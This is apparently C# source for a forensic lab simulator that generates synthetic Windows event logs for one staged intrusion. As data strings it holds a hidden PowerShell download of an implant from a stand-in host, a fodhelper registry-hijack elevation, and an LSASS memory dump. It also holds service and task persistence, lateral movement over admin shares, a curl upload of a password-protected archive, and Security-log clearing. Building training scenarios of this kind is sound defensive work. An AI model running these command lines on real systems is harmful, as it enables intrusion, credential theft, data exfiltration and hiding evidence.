using Dwell.Simulator.Evtx;

namespace Dwell.Simulator.Lab;

/// <summary>The one intruder of the scenario, step by step. <see cref="LabTruth"/> tells the same in words.</summary>
internal static class Intrusion
{
    private const ulong AdeleSession = 0x54210;
    private const ulong BackupSession = 0xB7731;
    private const string Implant = @"C:\Users\Public\Libraries\wsync.exe";
    private const string PowerShell = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    private const string Shell = @"C:\Windows\System32\cmd.exe";
    private const string RemoteTool = @"C:\Windows\qzhelp.exe";

    /// <summary>When the file server's Security log was emptied.</summary>
    public static DateTime LogCleared { get; } = LabScenario.At(3, 2, 55);

    public static void Write(LabScenario lab)
    {
        Entry(lab);
        var implant = Backdoor(lab);
        CredentialAccess(lab, implant);
        Movement(lab, implant);
        StagingAndUpload(lab);
    }

    private static void Entry(LabScenario lab)
    {
        var host = lab.Adele;
        var who = LabAccounts.Adele;
        var at = LabScenario.At(1, 9, 14, 8);
        var explorer = new LabProcess(4711, LabScenario.At(1, 7, 50), @"C:\Windows\explorer.exe",
            @"C:\Windows\Explorer.EXE", who);
        const string Word = @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
        var word = host.Start(at, 8120, Word,
            $"\"{Word}\" /n \"C:\\Users\\adele.voss\\Downloads\\Offer Lens-7.docm\"", explorer, who, AdeleSession);
        var script = host.Start(at.AddSeconds(21), 8344, PowerShell,
            "powershell.exe -nop -w hidden -c \"(New-Object Net.WebClient).DownloadFile('https://cdn.weather-sync.example/w','C:\\Users\\Public\\wsync.exe')\"",
            word, who, AdeleSession);
        host.ScriptBlock(at.AddSeconds(22), script,
            "(New-Object Net.WebClient).DownloadFile('https://cdn.weather-sync.example/w','C:\\Users\\Public\\wsync.exe')");
        host.AskName(at.AddSeconds(23), script, "cdn.weather-sync.example", LabScenario.CommandServer);
        host.Connect(at.AddSeconds(23), script, LabScenario.CommandServer, 443);
        host.WriteFile(at.AddSeconds(25), script, @"C:\Users\Public\wsync.exe");
        var first = host.Start(at.AddSeconds(31), 8420, @"C:\Users\Public\wsync.exe", @"C:\Users\Public\wsync.exe",
            script, who, AdeleSession, company: "-");
        host.Connect(at.AddSeconds(40), first, LabScenario.CommandServer, 443);

        // Full rights: a class of the user is bent, a helper of Windows reads it.
        const string Class = @"HKU\S-1-5-21-2801554400-913377201-1666060606-1121_Classes\ms-settings\shell\open\command\(Default)";
        host.SetRegistry(at.AddMinutes(26), first, Class, @"C:\Users\Public\wsync.exe /i");
        var helper = host.Start(at.AddMinutes(26).AddSeconds(3), 8610, @"C:\Windows\System32\fodhelper.exe",
            "fodhelper.exe", first, who,
            AdeleSession + 0x40, "High");
        host.Start(at.AddMinutes(26).AddSeconds(4), 8622, @"C:\Users\Public\wsync.exe",
            @"C:\Users\Public\wsync.exe /i", helper, who,
            AdeleSession + 0x40, "High", "-");
    }

    private static LabProcess Backdoor(LabScenario lab)
    {
        var host = lab.Adele;
        var at = LabScenario.At(1, 9, 41, 30);
        var services = OrdinaryLife.Core(@"C:\Windows\System32\services.exe", 648);
        var installer = new LabProcess(8622, at.AddMinutes(-1), @"C:\Users\Public\wsync.exe",
            @"C:\Users\Public\wsync.exe /i", LabAccounts.Adele);
        host.WriteFile(at, installer, Implant);
        host.SetRegistry(at.AddSeconds(1), services,
            @"HKLM\System\CurrentControlSet\Services\WinSyncHelper\ImagePath", Implant + " -svc");
        host.InstallService(at.AddSeconds(1), "WinSyncHelper", Implant + " -svc", "auto start", LabAccounts.Adele,
            AdeleSession + 0x40);
        var implant = host.Start(at.AddSeconds(4), 9004, Implant, Implant + " -svc", services, LabAccounts.System,
            0x3E7, "System", "-");

        // A second way back in.
        const string Task = @"\WinSync Update";
        host.Task(at.AddMinutes(2), 106, Task, ("UserContext", LabAccounts.Adele.FullName));
        for (var day = 2; day < LabScenario.Days; day++)
        {
            var run = LabScenario.At(day, 8, 0, 3);
            host.Task(run, 129, Task, ("Path", Implant), ("ProcessID", EventValue.UInt32(9100 + (uint)day)),
                ("Priority", EventValue.UInt32(16384)));
            host.Task(run.AddSeconds(1), 200, Task, ("ActionName", Implant),
                ("TaskInstanceId", EventValue.Guid(host.ProcessGuid(9100, run))));
        }

        Beacon(host, implant, at.AddSeconds(9));
        return implant;
    }

    // About every two and a half hours, a little early or late, until the evidence ends.
    private static void Beacon(LabHost host, LabProcess implant, DateTime from)
    {
        var random = new Random(77);
        for (var at = from; at < LabScenario.End; at = at.AddMinutes(150 + random.Next(-12, 13)))
            host.Connect(at, implant, LabScenario.CommandServer, 443);
    }

    private static void CredentialAccess(LabScenario lab, LabProcess implant)
    {
        var host = lab.Adele;
        var at = LabScenario.At(2, 10, 20, 11);
        var logonProcess = OrdinaryLife.Core(@"C:\Windows\System32\lsass.exe", 724);
        host.OpenProcess(at, implant, logonProcess, 0x1410);
        host.WriteFile(at.AddSeconds(2), implant, @"C:\Users\Public\Libraries\lsass.dmp");
    }

    private static void Movement(LabScenario lab, LabProcess implant)
    {
        var at = LabScenario.At(2, 11, 2, 40);
        var source = lab.Adele;
        var target = lab.FileServer;
        var who = LabAccounts.Backup;
        source.ExplicitCredentials(at, LabAccounts.System, 0x3E7, who, "FS01.halden.example", implant.Image,
            implant.Id);
        lab.DomainController.PasswordChecked(at.AddSeconds(1), who, source.Name);
        target.Logon(at.AddSeconds(1), who, 3, BackupSession, source.Address, "NTLM", source.Name, elevated: true);
        target.UseShare(at.AddSeconds(2), who, BackupSession, source.Address, "ADMIN$", "qzhelp.exe", 0x2,
            "%%4417\n\t\t\t\t");
        target.UseShare(at.AddSeconds(3), who, BackupSession, source.Address, "IPC$", "svcctl", 0x12019F,
            "%%4416\n\t\t\t\t%%4417\n\t\t\t\t");
        target.InstallService(at.AddSeconds(4), "qzhelp", @"%SystemRoot%\qzhelp.exe", "demand start", who,
            BackupSession);

        var services = OrdinaryLife.Core(@"C:\Windows\System32\services.exe", 648);
        var tool = target.Start(at.AddSeconds(5), 7444, RemoteTool, RemoteTool, services, LabAccounts.System, 0x3E7,
            "System", "-");
        target.ServiceState(at.AddSeconds(5), "qzhelp", "running");
        Run(target, at.AddSeconds(30), 7460, "whoami /all", tool);
        Run(target, at.AddSeconds(55), 7472, "net group \"Domain Admins\" /domain", tool);
        Run(target, at.AddMinutes(3), 7490, @"dir D:\Projects\Lens-7 /s", tool);

        // The same account on the second workstation. What happened there no record tells.
        var second = LabScenario.At(2, 15, 31, 5);
        lab.DomainController.PasswordChecked(second, who, source.Name);
        lab.Bruno.Logon(second, who, 3, 0x88213, source.Address, "NTLM", source.Name, elevated: true);
        lab.Bruno.Logoff(second.AddMinutes(6), who, 3, 0x88213);
    }

    private static void StagingAndUpload(LabScenario lab)
    {
        var host = lab.FileServer;
        var at = LabScenario.At(3, 2, 10, 2);
        var tool = new LabProcess(7444, LabScenario.At(2, 11, 2, 45), RemoteTool, RemoteTool, LabAccounts.System);
        var archiver = host.Start(at, 8800, @"C:\PerfLogs\r.exe",
            @"r.exe a -r -hpQ7mint C:\PerfLogs\pl1.rar D:\Projects\Lens-7", tool,
            LabAccounts.System, 0x3E7, "System", "-");
        host.WriteFile(at.AddSeconds(4), archiver, @"C:\PerfLogs\pl1.rar");
        var upload = host.Start(at.AddMinutes(21), 8850, @"C:\Windows\System32\curl.exe",
            $@"curl.exe -k -T C:\PerfLogs\pl1.rar https://{LabScenario.DropServer}/u/", tool, LabAccounts.System,
                0x3E7, "System");
        host.Connect(at.AddMinutes(21).AddSeconds(1), upload, LabScenario.DropServer, 443);
        host.Start(LogCleared.AddSeconds(-2), 8871, @"C:\Windows\System32\wevtutil.exe", "wevtutil cl Security",
            tool, LabAccounts.System, 0x3E7, "System");
        host.ClearSecurityLog(LogCleared, LabAccounts.System, 0x3E7);
    }

    private static void Run(LabHost host, DateTime at, uint process, string command, LabProcess parent) =>
        host.Start(at, process, Shell, $"cmd.exe /c {command}", parent, LabAccounts.System, 0x3E7, "System");
}
